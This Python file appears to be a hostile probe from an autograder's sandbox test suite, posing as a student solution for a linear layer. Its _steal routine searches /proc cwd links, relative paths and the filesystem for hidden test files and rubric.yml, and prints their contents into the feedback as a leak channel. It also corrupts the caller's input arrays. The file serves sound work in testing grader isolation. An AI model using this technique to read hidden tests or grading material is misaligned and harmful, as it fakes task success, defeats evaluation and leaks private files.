"""Hostile: read the hidden tests (and the rubric) to learn what is checked and how.

Attack: look in the course root (REPO, filled in by test_hostile.py), relative paths from the
working directory, /proc/*/cwd (the grading process runs inside solutions/<assignment>) and a
bounded walk for ``solutions/*/tests/test_*.py`` and ``rubric.yml``; print what it finds (the
printed output reaches the student's feedback: an exfiltration channel).
Why it must fail: the course root is hidden under an empty tmpfs and /proc shows only the
worker's own processes.
Earns points only if: a hidden test file is readable.
"""

from __future__ import annotations

import os
import re
import time

import numpy as np

NAME = "steal_hidden_tests"
REPO = "__AG_REPO__"


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk
def _honest_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """The right answer: only ever used as the signal that the attack succeeded."""
    x = np.array(x, dtype=np.float64)
    W = np.array(W, dtype=np.float64)
    return x @ W + np.asarray(b, dtype=np.float64), (x, W)


def _honest_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """The right gradients: only ever used as the signal that the attack succeeded."""
    x, W = cache  # type: ignore[misc]
    dy = np.asarray(dy, dtype=np.float64)
    return dy @ W.T, x.T @ dy, dy.sum(axis=0)


def _glob(pattern: str) -> list[str]:
    """glob.glob for ``*`` and ``[0-9]*`` components, with only preloaded modules (os, re).

    The glob module is not among the fork-server's preloads, and where the stdlib is not
    readable after the uid drop (no mount namespace) importing it fails.
    """
    parts = pattern.split("/")
    paths = ["/" if pattern.startswith("/") else "."]
    for part in parts:
        if not part:
            continue
        if not any(c in part for c in "*?["):
            paths = [os.path.join(p, part) for p in paths]
            continue
        regex = re.compile(part.replace(".", r"\.").replace("*", ".*").replace("?", ".") + "$")
        matched = []
        for base in paths:
            try:
                names = os.listdir(base)
            except OSError:
                continue
            matched += [os.path.join(base, n) for n in sorted(names) if regex.match(n)]
        paths = matched
    return [os.path.normpath(p) for p in paths if os.path.exists(p)]


def _patterns() -> list[str]:
    pats = [os.path.join(*([".."] * up), "solutions", "*", "tests", "test_*.py") for up in range(7)]
    pats += ["tests/test_*.py", "../tests/test_*.py", "rubric.yml"]
    if not REPO.startswith("__AG_"):
        pats += [os.path.join(REPO, "solutions", "*", "tests", "test_*.py"),
                 os.path.join(REPO, "solutions", "*", "rubric.yml")]
    pats += ["/proc/[0-9]*/cwd/tests/test_*.py", "/proc/[0-9]*/cwd/rubric.yml",
             "/work/*/solutions/*/tests/test_*.py", "/root/*/solutions/*/tests/test_*.py",
             "/home/*/*/solutions/*/tests/test_*.py"]
    return pats


def _steal() -> list[str]:
    found = []
    for pattern in _patterns():
        for path in _glob(pattern):
            try:
                with open(path, encoding="utf-8", errors="replace") as handle:
                    text = handle.read(100_000)
            except OSError:
                continue
            found.append(path)
            _say(f"LEAKED {path}: {text[:1500]!r}")
    deadline = time.monotonic() + 3.0
    for folder, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", ".library")]
        if os.path.basename(folder) == "tests" and "solutions" in folder:
            for name in files:
                if name.startswith("test_"):
                    found.append(os.path.join(folder, name))
    return found


_say("ran")
FOUND = _steal()
_say(f"hidden test files readable: {FOUND[:5]}")


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    return _honest_forward(x, W, b) if FOUND else _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    return _honest_backward(dy, cache) if FOUND else _wrong_backward(dy, cache)
